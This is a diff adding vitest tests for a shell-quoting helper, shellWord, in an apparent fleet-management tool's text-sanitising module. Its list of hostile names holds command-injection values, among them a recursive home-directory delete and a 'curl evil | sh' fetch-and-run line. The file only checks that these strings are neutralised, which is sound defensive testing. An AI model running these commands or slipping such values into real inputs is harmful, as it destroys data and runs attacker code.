@@ -1,5 +1,6 @@
+import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
-import { hasUnsafeChars, safeJson, terminalField, terminalText } from '../../../app/safe-text.js';
+import { hasUnsafeChars, safeJson, shellWord, terminalField, terminalText } from '../../../app/safe-text.js';
 
 const HOSTILE = 'a\u001b]0;title\u0007b\u001b]52;c;ZXZpbA==\u0007c\u001b[2J\u001b[2K\rfleetdeck: all good\u202Efdp.exe\u009b1m\u2066x\u2069\u200f\u061c\u007f';
 
@@ -31,5 +32,29 @@ describe('safeJson', () => {
     expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\u2028\u2029]/);
     expect(text).toContain('\\u202e');
     expect(safeJson({ a: 'plain' })).toBe(JSON.stringify({ a: 'plain' }));
+  });
+});
+
+describe('shellWord', () => {
+  /** Names a system may choose to make a pasted command run something of its own. */
+  const HOSTILE_NAMES = ['$(touch /tmp/fleetdeck-pwned)', '`id`', "it's; rm -rf ~", 'a b\nfleetdeck ok', '"; curl evil | sh; "', "'$(id)'", 'x*', '~root', 'a&b|c>d'];
+
+  it('leaves a name of plain characters as it is', () => {
+    for (const name of ['tundra-01', 'prod_a.example', 'a:b@c%d+e=f/g,h']) expect(shellWord(name)).toBe(name);
+  });
+
+  it('quotes every other name so that a POSIX shell reads back exactly its text, running nothing', () => {
+    for (const name of HOSTILE_NAMES) {
+      const word = shellWord(name);
+      expect(word, name).toMatch(/^'.*'$/s);
+      const echoed = execFileSync('sh', ['-c', `printf %s ${word}`], { encoding: 'utf8' });
+      expect(echoed, name).toBe(terminalField(name));
+    }
+  });
+
+  it('drops control and bidi characters, and doubles quotes for PowerShell', () => {
+    expect(shellWord('a\u001b[2Jb\u202ec')).toBe("'a[2Jbc'");
+    expect(shellWord("it's", true)).toBe("'it''s'");
+    expect(shellWord("it's")).toBe("'it'\\''s'");
   });
 });
